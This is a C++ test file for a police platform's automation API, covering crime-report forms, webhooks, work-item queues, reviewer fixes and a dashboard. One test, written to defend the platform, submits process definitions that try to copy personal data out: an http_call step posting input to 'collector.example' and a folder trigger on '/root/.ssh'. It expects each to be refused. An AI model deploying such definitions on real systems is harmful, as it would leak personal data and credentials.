// Robotics through the HTTP API, on both store backends: the shipped processes are installed; a
// form with every field good becomes a work item (202), the same form again is refused naming
// it, a bad one is refused naming every field with nothing queued; the submitter sees its item's
// state and outcome, a reader also its input (logged); the queues show what waits. With workers
// running, a report becomes a crime with its number; one that cannot be placed waits in the
// exception queue until a reviewer corrects it and resumes it; the dashboard counts the time
// saved.
#include "api_fixture.h"

namespace peel::testing {
namespace {

namespace json = boost::json;

const std::string kReport = R"({"surname": "Okafor", "forenames": "Grace",
  "email": "grace.okafor@example.org", "postcode": "se1 7pb", "category": "bicycle-theft",
  "happened_from": "2026-01-10T08:00:00Z", "where": "Waterloo station cycle racks",
  "what_happened": "My bicycle was taken from the racks while I was at work."})";

class RoboticsApi : public ApiTest {
 protected:
  void SetUp() override {
    ApiTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    portal_ = user_token("website", "public_portal");
    admin_ = user_token("robots", "automation_administrator");
  }
  // Items wait in their queues: these tests look at them before anyone works them.
  void adjust(app::PlatformOptions& options) override { options.robotics.max_workers = 0; }
  std::string portal_, admin_;
};

TEST_P(RoboticsApi, AGoodFormBecomesOneWorkItemTheSubmitterCanFollow) {
  const auto processes = call("GET", "/api/v1/robotics/processes", "", portal_);
  ASSERT_EQ(processes.status, 200) << processes.body;
  const auto listed = processes.json();
  std::vector<std::string> ids;
  for (const auto& p : listed.at("items").as_array()) ids.emplace_back(p.at("id").as_string());
  EXPECT_EQ(ids, (std::vector<std::string>{"legacy-csv-import", "online-crime-report"}));
  EXPECT_EQ(listed.at("items").at(1).at("trigger").at("kind"), "form");

  const auto sent = call("POST", "/api/v1/robotics/forms/online-crime-report", kReport, portal_);
  ASSERT_EQ(sent.status, 202) << sent.body;
  const std::string id(sent.json().at("id").as_string());
  const auto again = call("POST", "/api/v1/robotics/forms/online-crime-report", kReport, portal_);
  EXPECT_EQ(again.status, 409) << again.body;
  EXPECT_NE(again.body.find(id), std::string::npos) << "names the item it already is";

  const auto mine = call("GET", "/api/v1/robotics/items/" + id, "", portal_);
  ASSERT_EQ(mine.status, 200) << mine.body;
  EXPECT_EQ(mine.json().at("state"), "new");
  EXPECT_EQ(mine.json().at("history").at(0).at("what"), "created");
  EXPECT_FALSE(mine.json().as_object().contains("input")) << "the portal does not read it back";
  const auto other_portal = user_token("website2", "public_portal");
  EXPECT_EQ(call("GET", "/api/v1/robotics/items/" + id, "", other_portal).status, 404);

  const auto read = call("GET", "/api/v1/robotics/items/" + id, "", admin_);
  ASSERT_EQ(read.status, 200) << read.body;
  EXPECT_EQ(read.json().at("input").at("postcode"), "SE1 7PB");
  const auto queues = call("GET", "/api/v1/robotics/queues", "", admin_);
  ASSERT_EQ(queues.status, 200) << queues.body;
  EXPECT_EQ(queues.json().at("items").at(0).at("queue"), "online crime");
  EXPECT_EQ(queues.json().at("items").at(0).at("by_state").at("new"), 1);
  EXPECT_EQ(call("GET", "/api/v1/robotics/queues", "", portal_).status, 403);

  const auto log = call("GET", "/api/v1/access-log?subject_type=work_item", "",
                        user_token("admin2", "system_administrator"), {{"Peel-Purpose", "audit"}});
  ASSERT_EQ(log.status, 200) << log.body;
  std::vector<std::string> actions;
  const auto entries = log.json();
  for (const auto& e : entries.at("items").as_array())
    actions.emplace_back(e.at("action").as_string());
  EXPECT_EQ(actions, (std::vector<std::string>{"consultation", "collection"}))
      << "the form's collection, then the reader's read; not the portal's own follow-up";
}

TEST_P(RoboticsApi, ABadFormIsRefusedNamingEveryFieldAndNothingIsQueued) {
  const auto bad = call("POST", "/api/v1/robotics/forms/online-crime-report",
                        R"({"surname": "", "email": "nobody", "happened_from": "yesterday",
                            "where": "here", "what_happened": "x", "category": "theft",
                            "shoe_size": "9"})",
                        portal_);
  ASSERT_EQ(bad.status, 422) << bad.body;
  std::vector<std::string> fields;
  const auto problems = bad.json();
  for (const auto& e : problems.at("errors").as_array())
    fields.emplace_back(e.at("field").as_string());
  EXPECT_EQ(fields, (std::vector<std::string>{"surname", "email", "category", "happened_from",
                                              "shoe_size"}));
  EXPECT_EQ(call("POST", "/api/v1/robotics/forms/legacy-csv-import", kReport, portal_).status, 422)
      << "that process is started by a folder, not a form";
  EXPECT_EQ(call("POST", "/api/v1/robotics/forms/no-such-process", kReport, portal_).status, 404);
  EXPECT_EQ(call("POST", "/api/v1/robotics/forms/online-crime-report", "[1, 2]", portal_).status,
            422);
  const auto queues = call("GET", "/api/v1/robotics/queues", "", admin_);
  ASSERT_EQ(queues.status, 200);
  EXPECT_TRUE(queues.json().at("items").as_array().empty()) << "nothing queued";
  EXPECT_EQ(call("POST", "/api/v1/robotics/forms/online-crime-report", kReport,
                 user_token("disp", "dispatcher"))
                .status,
            403);
}

TEST_P(RoboticsApi, AnAdministratorInstallsAProcessThatAnotherSystemStartsByWebhook) {
  const std::string process = R"({"id": "anpr-hit", "name": "ANPR hit to intelligence",
    "version": 1, "trigger": {"kind": "webhook"}, "queue": "anpr",
    "fields": [{"name": "vrm", "type": "text", "required": true}],
    "steps": [{"id": "clean", "kind": "transform", "with": {"value": "${input.vrm}", "into": "upper"}}]})";
  EXPECT_EQ(call("POST", "/api/v1/robotics/processes", process, portal_).status, 403);
  const auto looped =
      call("POST", "/api/v1/robotics/processes",
           R"({"id": "loop", "name": "Loop", "version": 1, "trigger": {"kind": "webhook"},
                               "queue": "q", "fields": [{"name": "x", "type": "text"}],
                               "steps": [{"id": "a", "kind": "validate", "next": "b"},
                                         {"id": "b", "kind": "validate", "next": "a"}]})",
           admin_);
  ASSERT_EQ(looped.status, 422) << looped.body;
  EXPECT_NE(looped.body.find("steps[1].next"), std::string::npos) << looped.body;
  const auto installed = call("POST", "/api/v1/robotics/processes", process, admin_);
  ASSERT_EQ(installed.status, 201) << installed.body;
  EXPECT_EQ(call("POST", "/api/v1/robotics/processes", process, admin_).status, 409)
      << "version 1 is installed";

  const std::map<std::string, std::string> reference{{"Peel-Reference", "camera-7/981"}};
  const auto hit = call("POST", "/api/v1/robotics/webhooks/anpr-hit", R"({"vrm": "ab12 cde"})",
                        portal_, reference);
  ASSERT_EQ(hit.status, 202) << hit.body;
  EXPECT_EQ(hit.json().at("source_reference"), "webhook-camera-7/981");
  EXPECT_EQ(call("POST", "/api/v1/robotics/webhooks/anpr-hit", R"({"vrm": "AB12CDE"})", portal_,
                 reference)
                .status,
            409)
      << "the same call again, though its fields were written differently";
  EXPECT_EQ(
      call("POST", "/api/v1/robotics/forms/anpr-hit", R"({"vrm": "AB12CDE"})", portal_).status, 422)
      << "not a form";
  EXPECT_EQ(call("POST", "/api/v1/robotics/webhooks/online-crime-report", kReport, portal_).status,
            422);
}

// The assessment's attempt, over HTTP: an automation administrator cannot install a process that
// copies callers out, nor point a folder trigger at the server's own files; the process they
// may install is retired in one call and then takes no submissions.
TEST_P(RoboticsApi, AnAutomationAdministratorCannotCopyPersonalDataOut) {
  const auto exfiltrate = call("POST", "/api/v1/robotics/processes",
                               R"({"id": "copy-out", "name": "Copy", "version": 1,
    "trigger": {"kind": "event", "source": "IncidentOpened"}, "queue": "q",
    "fields": [{"name": "caller", "type": "text"}],
    "steps": [{"id": "t", "kind": "transform", "with": {"value": "${input.caller}", "into": "trim"}}]})",
                               admin_);
  EXPECT_EQ(exfiltrate.status, 403) << exfiltrate.body;
  EXPECT_NE(exfiltrate.body.find("cad.read"), std::string::npos) << exfiltrate.body;
  const auto send = call("POST", "/api/v1/robotics/processes",
                         R"({"id": "send-out", "name": "Send", "version": 1,
    "trigger": {"kind": "webhook"}, "queue": "q", "fields": [{"name": "x", "type": "text"}],
    "steps": [{"id": "s", "kind": "http_call", "with": {"url": "https://collector.example/in", "body": "${input.x}"}}]})",
                         admin_);
  ASSERT_EQ(send.status, 422) << send.body;
  EXPECT_NE(send.body.find("steps[0].with.url"), std::string::npos) << send.body;
  const auto keys = call("POST", "/api/v1/robotics/processes",
                         R"({"id": "keys", "name": "Keys", "version": 1,
    "trigger": {"kind": "folder", "source": "/root/.ssh", "format": "csv"}, "queue": "q",
    "fields": [{"name": "x", "type": "text"}],
    "steps": [{"id": "v", "kind": "validate"}]})",
                         admin_);
  ASSERT_EQ(keys.status, 422) << keys.body;
  EXPECT_NE(keys.body.find("trigger.source"), std::string::npos) << keys.body;

  const std::string ok = R"({"id": "notes", "name": "Notes", "version": 1,
    "trigger": {"kind": "webhook"}, "queue": "q", "fields": [{"name": "x", "type": "text"}],
    "steps": [{"id": "v", "kind": "validate"}]})";
  ASSERT_EQ(call("POST", "/api/v1/robotics/processes", ok, admin_).status, 201);
  ASSERT_EQ(call("POST", "/api/v1/robotics/webhooks/notes", R"({"x": "a"})", portal_).status, 202);
  EXPECT_EQ(call("POST", "/api/v1/robotics/processes/notes/versions/1/retire", "{}", admin_).status,
            422)
      << "a reason is needed";
  const auto retired = call("POST", "/api/v1/robotics/processes/notes/versions/1/retire",
                            R"({"reason": "replaced by the new intake"})", admin_);
  ASSERT_EQ(retired.status, 200) << retired.body;
  const auto late = call("POST", "/api/v1/robotics/webhooks/notes", R"({"x": "b"})", portal_);
  EXPECT_EQ(late.status, 409) << late.body;
  EXPECT_NE(late.body.find("retired"), std::string::npos) << late.body;
}

class RoboticsWorkers : public RoboticsApi {
 protected:
  void adjust(app::PlatformOptions& options) override {
    install_town(2'500);
    options.robotics.min_workers = 1;
    options.robotics.max_workers = 2;
  }

  // A street of the town, for "where".
  std::string street() {
    for (const auto& p : platform().geo().service->places()) {
      if (p.kind == geo::PlaceKind::kStreet) return p.name;
    }
    return "";
  }

  // The item once it is no longer waiting or being worked (or as it is after 20 s).
  json::value settled(const std::string& id, const std::string& token) {
    const auto give_up = std::chrono::steady_clock::now() + std::chrono::seconds(20);
    while (true) {
      const auto got = call("GET", "/api/v1/robotics/items/" + id, "", token);
      json::value item = got.json();
      const std::string state(item.at("state").as_string());
      if (state == "done" || state == "exception" || std::chrono::steady_clock::now() > give_up)
        return item;
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
  }

  static std::string with_where(const std::string& where) {
    json::value report = json::parse(kReport);
    report.as_object()["where"] = where;
    return json::serialize(report);
  }
};

TEST_P(RoboticsWorkers, AReportBecomesACrimeWithItsNumberInSeconds) {
  const std::string report = with_where("by the racks on " + street());
  const auto sent = call("POST", "/api/v1/robotics/forms/online-crime-report", report, portal_);
  ASSERT_EQ(sent.status, 202) << sent.body;
  const json::value item = settled(std::string(sent.json().at("id").as_string()), portal_);
  ASSERT_EQ(item.at("state"), "done") << json::serialize(item);
  const std::string reference(item.at("outcome").at("reference").as_string());
  EXPECT_TRUE(reference.starts_with("CR-")) << reference;

  const auto officer = user_token("constable", "patrol_officer");
  const auto crime =
      call("GET", "/api/v1/crimes/" + reference, "", officer, {{"Peel-Purpose", "investigation"}});
  ASSERT_EQ(crime.status, 200) << crime.body;
  EXPECT_NE(crime.body.find("Okafor"), std::string::npos) << "the victim is linked: " << crime.body;

  const auto outbox = call("GET", "/api/v1/robotics/outbox", "", admin_);
  ASSERT_EQ(outbox.status, 200) << outbox.body;
  const json::value messages = outbox.json();
  ASSERT_EQ(messages.at("items").as_array().size(), 1U);
  EXPECT_NE(messages.at("items").at(0).at("body").as_string().find(reference), std::string::npos);
  const std::string message(messages.at("items").at(0).at("id").as_string());
  EXPECT_EQ(call("POST", "/api/v1/robotics/outbox/" + message + "/sent", "", admin_).status, 200);
  EXPECT_EQ(call("POST", "/api/v1/robotics/outbox/" + message + "/sent", "", admin_).status, 409);

  const auto dashboard = call("GET", "/api/v1/robotics/dashboard?hours=1", "", admin_);
  ASSERT_EQ(dashboard.status, 200) << dashboard.body;
  const json::value figures = dashboard.json();
  EXPECT_EQ(figures.at("totals").at("done"), 1);
  EXPECT_DOUBLE_EQ(figures.at("totals").at("hours_saved").to_number<double>(), 9.0 / 60);
  EXPECT_EQ(call("GET", "/api/v1/robotics/dashboard?hours=0", "", admin_).status, 422);
}

TEST_P(RoboticsWorkers, AReportThatCannotBePlacedIsFixedByAReviewerAndResumed) {
  const auto sent = call("POST", "/api/v1/robotics/forms/online-crime-report",
                         with_where("behind the old gasworks"), portal_);
  ASSERT_EQ(sent.status, 202) << sent.body;
  const std::string id(sent.json().at("id").as_string());
  const json::value stuck = settled(id, admin_);
  ASSERT_EQ(stuck.at("state"), "exception") << json::serialize(stuck);
  EXPECT_NE(stuck.at("reason").as_string().find("could not be placed"), std::string::npos);

  const auto reviewer = user_token("records", "records_manager");
  const auto queue = call("GET", "/api/v1/robotics/items?state=exception", "", reviewer);
  ASSERT_EQ(queue.status, 200) << queue.body;
  EXPECT_EQ(std::string(queue.json().at("items").at(0).at("id").as_string()), id);
  EXPECT_EQ(call("GET", "/api/v1/robotics/items?state=lost", "", reviewer).status, 422);

  json::value fixed = stuck.at("input");
  fixed.as_object()["email"] = "not an address";
  const auto refused = call("POST", "/api/v1/robotics/items/" + id + "/resume",
                            json::serialize(json::object{{"input", fixed}}), reviewer);
  ASSERT_EQ(refused.status, 422) << refused.body;
  EXPECT_NE(refused.body.find("input.email"), std::string::npos) << refused.body;
  EXPECT_EQ(call("GET", "/api/v1/robotics/items/" + id, "", reviewer).json().at("state"),
            "exception")
      << "a refused fix changes nothing";

  fixed.as_object()["email"] = "grace.okafor@example.org";
  fixed.as_object()["where"] = street();
  const auto resumed =
      call("POST", "/api/v1/robotics/items/" + id + "/resume",
           json::serialize(json::object{{"input", fixed}, {"note", "placed"}}), reviewer);
  ASSERT_EQ(resumed.status, 200) << resumed.body;
  const json::value done = settled(id, admin_);
  ASSERT_EQ(done.at("state"), "done") << json::serialize(done);
  EXPECT_TRUE(done.at("outcome").at("reference").as_string().starts_with("CR-"));
  EXPECT_EQ(
      call("POST", "/api/v1/robotics/items/" + id + "/abandon", R"({"reason": "late"})", reviewer)
          .status,
      409)
      << "a finished item is not abandoned";
  EXPECT_EQ(call("POST", "/api/v1/robotics/items/" + id + "/resume", "{}", portal_).status, 403);
}

INSTANTIATE_TEST_SUITE_P(Backends, RoboticsWorkers, ::testing::ValuesIn(store_backends()),
                         [](const auto& backend) { return backend.param; });

INSTANTIATE_TEST_SUITE_P(Backends, RoboticsApi, ::testing::ValuesIn(store_backends()),
                         [](const auto& backend) { return backend.param; });

}  // namespace
}  // namespace peel::testing
